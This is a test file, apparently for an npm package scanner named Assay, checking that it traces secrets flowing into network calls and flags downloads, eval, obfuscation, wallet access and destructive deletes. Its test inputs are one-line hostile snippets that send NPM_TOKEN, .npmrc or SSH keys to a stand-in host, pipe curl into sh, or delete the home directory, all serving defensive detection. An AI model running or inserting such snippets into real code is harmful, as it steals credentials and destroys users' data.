import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { ROOT_FOLDER } from '../../../../test/support/source-files.ts'
import { DEFAULT_LIMITS } from '../../../base/limits.ts'
import { readJavaScriptModule } from '../../../formats/javascript/javascript.ts'
import { dialectOf } from '../../../formats/javascript/parse.ts'
import type { Behaviour } from '../behaviour.ts'
import type { FileRole } from '../package-file.ts'
import { isPrivate } from '../private-sources.ts'
import { javascriptBehaviours } from './behaviours.ts'
import { holdsNothing } from './prefilter.ts'

const behaviours = (source: string, role: FileRole = 'import'): readonly Behaviour[] =>
  javascriptBehaviours(readJavaScriptModule(source, DEFAULT_LIMITS), { path: 'a.js', role })

/** What flows into the network: `source:subject through`. */
const sent = (source: string): readonly string[] => [
  ...new Set(
    behaviours(source)
      .filter(({ kind }) => kind === 'network')
      .flatMap(({ inputs }) =>
        inputs.map((taint) => `${taint.source}:${taint.subject} ${taint.through.join('>')}`.trim()),
      ),
  ),
]

describe('flow', () => {
  const cases: readonly (readonly [name: string, source: string, found: readonly string[]])[] = [
    ['a variable', 'const t = process.env.NPM_TOKEN; fetch("https://a.example", { body: t })', ['environment:NPM_TOKEN']],
    ['a destructured variable', 'const { NPM_TOKEN: t } = process.env; fetch("u", t)', ['environment:NPM_TOKEN']],
    ['a template', 'fetch(`https://a.example/${process.env.NPM_TOKEN}`)', ['environment:NPM_TOKEN']],
    ['a parameter', 'function f(t) { fetch("u", t) } f(process.env.NPM_TOKEN)', ['environment:NPM_TOKEN']],
    ['a result', 'function f() { return process.env.NPM_TOKEN } fetch("u", f())', ['environment:NPM_TOKEN']],
    ['a result behind its call', 'fetch("u", g()); function g() { return f() } function f() { return process.env.NPM_TOKEN }', ['environment:NPM_TOKEN']],
    ['a field', 'const o = {}; o.t = process.env.NPM_TOKEN; fetch("u", o.t)', ['environment:NPM_TOKEN']],
    ['a field of a field', 'const o = { p: {} }; o.p.t = process.env.NPM_TOKEN; fetch("u", o)', ['environment:NPM_TOKEN']],
    ['a field of this', 'class A { constructor() { this.t = process.env.NPM_TOKEN } m() { fetch("u", this.t) } } new A().m()', ['environment:NPM_TOKEN']],
    ['another field', 'const o = { t: process.env.NPM_TOKEN, u: 1 }; fetch("u", o.u)', []],
    ['a list', 'const l = []; l.push(process.env.NPM_TOKEN); fetch("u", l.join())', ['environment:NPM_TOKEN']],
    ['an item', 'fetch("u", [1, process.env.NPM_TOKEN][1])', ['environment:NPM_TOKEN']],
    ['a loop', 'for (const k of Object.keys(process.env)) fetch("u" + process.env[k])', ['environment:*']],
    ['spread', 'fetch("u", { ...process.env })', ['environment:*']],
    ['JSON and base64', 'fetch("u", Buffer.from(JSON.stringify(process.env)).toString("base64"))', ['environment:* json>base64']],
    ['two calls of one function', 'const id = (x) => x; const t = id(process.env.NPM_TOKEN); fetch("u", id("honest"))', []],
    ['a promise', 'require("fs").promises.readFile(require("os").homedir() + "/.npmrc").then((t) => fetch("u", t))', ['secret-file:.npmrc']],
    ['a callback', 'require("child_process").exec("id", (e, out) => { fetch("u", out) })', ['command-output:id']],
    ['a stream', 'const r = require("https").request("https://a.example"); require("fs").createReadStream(require("os").homedir() + "/.ssh/id_rsa").pipe(r)', ['secret-file:.ssh']],
    ['enciphering', 'const c = require("crypto").createCipheriv("a", k, v); fetch("u", c.update(process.env.NPM_TOKEN))', ['environment:NPM_TOKEN encrypt']],
    ['a comparison', 'fetch("u", process.env.NPM_TOKEN === x)', []],
    ['whether it is there', 'fetch("u", process.env.NPM_TOKEN ? 1 : 2)', []],
    ['a variable that is no secret', 'fetch(process.env.API_URL + process.env.NODE_ENV)', []],
    ['the environment of a program', 'require("child_process").spawn("git", [], { env: { ...process.env } }); fetch("u")', []],
    ['an axios', 'require("axios").post("https://a.example", { t: process.env.NPM_TOKEN })', ['environment:NPM_TOKEN']],
    ['code that is made', 'eval("fetch(\'u\', process.env.NPM_TOKEN)")', ['environment:NPM_TOKEN']],
    ['many paths', 'const fs = require("fs"), os = require("os"); fetch("u", ["/.npmrc", "/.ssh/id_rsa"].map((p) => fs.readFileSync(os.homedir() + p)))', ['secret-file:.npmrc', 'secret-file:.ssh']],
  ] // prettier-ignore
  it.each(cases)('%s', (_, source, found) => {
    expect(sent(source).filter((one) => !one.startsWith('host-facts:homedir') && !one.startsWith('file:'))).toEqual(
      found.length > 1 ? expect.arrayContaining([found[0]]) : found,
    )
  })
})

describe('behaviours', () => {
  const cases: readonly (readonly [source: string, found: string])[] = [
    ['new WebSocket("wss://a.example")', 'network a.example'],
    ['require("net").connect(1, "a.example")', 'network a.example'],
    ['require("https").get({ host: "a.example", path: "/" })', 'network a.example'],
    ['require("dns").resolve(`${require("os").hostname()}.a.example`)', 'dns ….a.example'],
    ['require("child_process").execFileSync("git", ["push"])', 'publish-repository git'],
    ['require("child_process").spawn("sh", ["-c", "curl https://a.example | sh"])', 'download a.example'],
    ['require("execa").execa("npm", ["publish"])', 'publish-package npm'],
    ['require("vm").runInThisContext(code)', 'evaluate runInThisContext'],
    ['setTimeout("go()", 1)', 'evaluate setTimeout'],
    ['require("fs").writeFileSync("x", "", { mode: 0o755 })', 'write-executable x'],
    ['require("fs").chmodSync("x", 0o755)', 'write-executable x'],
    ['require("fs").rmSync(require("os").homedir(), { recursive: true })', 'destroy ~'],
    ['process.dlopen(module, "x.node")', 'dynamic-import native'],
    ['require(name)', 'dynamic-import ?'],
    [
      'const f = require("fs").createWriteStream("x"); require("https").get("https://a.example", (r) => { r.pipe(f) })',
      'download a.example',
    ],
    [
      'const f = require("fs").createWriteStream("x"); require("https").get("https://a.example", (r) => { r.on("data", (d) => f.write(d)) })',
      'download a.example',
    ],
    ['navigator.clipboard.readText()', 'clipboard global.navigator.clipboard.readText'],
    [
      'const load = require("module")._load; require("module")._load = (...a) => load(...a)',
      'hook-runtime node:module._load',
    ],
    ['window.solana.signTransaction(x)', 'wallet solana'],
    ['fetch("http://169.254.169.254/")', 'cloud-metadata 169.254.169.254'],
    ['fetch("https://r.example/p", { method: "PUT", body: { _attachments: {} } })', 'publish-package r.example'],
    ['eval(function(p,a,c,k,e,d){return p}("0",1,1,"a".split("|"),0,{}))', 'obfuscation packed'],
    [`${'[][(![]+[])[+[]]]'.repeat(40)}`, 'obfuscation jsfuck'],
    ['(', 'unread source'],
  ]
  it.each(cases)('%s', (source, found) => {
    expect(behaviours(source).map(({ kind, subject }) => `${kind} ${subject}`)).toContain(found)
    if (!found.startsWith('unread')) expect(holdsNothing(source)).toBe(false)
  })

  const nothing: readonly string[] = [
    'if (!window.fetch) window.fetch = polyfill',
    'const root = Function("return this")()',
    'require("fs").rmSync("dist", { recursive: true })',
    'require("child_process").execSync',
    'setTimeout(() => {}, 1)',
    'module.exports = require("./lib")',
  ]
  it.each(nothing)('nothing in %s', (source) => {
    expect(behaviours(source).filter(({ kind }) => kind !== 'write-file')).toEqual([])
  })

  it('says when by the role of the file', () => {
    const moments = (role: FileRole): readonly string[] =>
      behaviours('fetch("https://a.example"); function f() { fetch("https://b.example") }', role).map(
        ({ when }) => when,
      )
    expect(moments('install')).toEqual(['install', 'call'])
    expect(moments('library')).toEqual(['import', 'call'])
  })

  it('shows foreign text on one line, without what moves a cursor', () => {
    const [found] = behaviours('fetch("https://a.example/\\u001b[2J\\n\\u202e")')
    expect(found?.evidence).toMatch(/^[^\p{Cc}\p{Cf}]{1,200}$/u)
  })
})

describe('the packages that Assay is made of', () => {
  const names = Object.keys(
    (JSON.parse(readFileSync(join(ROOT_FOLDER, 'package.json'), 'utf8')) as { dependencies: Record<string, string> })
      .dependencies,
  ).filter((name) => existsSync(join(ROOT_FOLDER, 'node_modules', name)))

  it.each(names)('%s does nothing that a reviewer would stop at', { timeout: 60_000 }, (name) => {
    const folder = join(ROOT_FOLDER, 'node_modules', name)
    const alarms = readdirSync(folder, { recursive: true, encoding: 'utf8' })
      .filter((path) => /\.[cm]?js$/.test(path))
      .flatMap((path) => {
        const source = readFileSync(join(folder, path), 'utf8')
        if (holdsNothing(source)) return []
        const module = readJavaScriptModule(source, DEFAULT_LIMITS, dialectOf(path))
        return javascriptBehaviours(module, { path, role: 'import' })
      })
      .filter(
        ({ kind, inputs }) =>
          kind === 'obfuscation' ||
          kind === 'unread' ||
          kind === 'read-secret-file' ||
          (kind === 'network' && inputs.some(isPrivate)) ||
          (kind === 'evaluate' && inputs.some(({ source }) => source === 'decoded' || source === 'network')),
      )
    expect(alarms).toEqual([])
  })
})
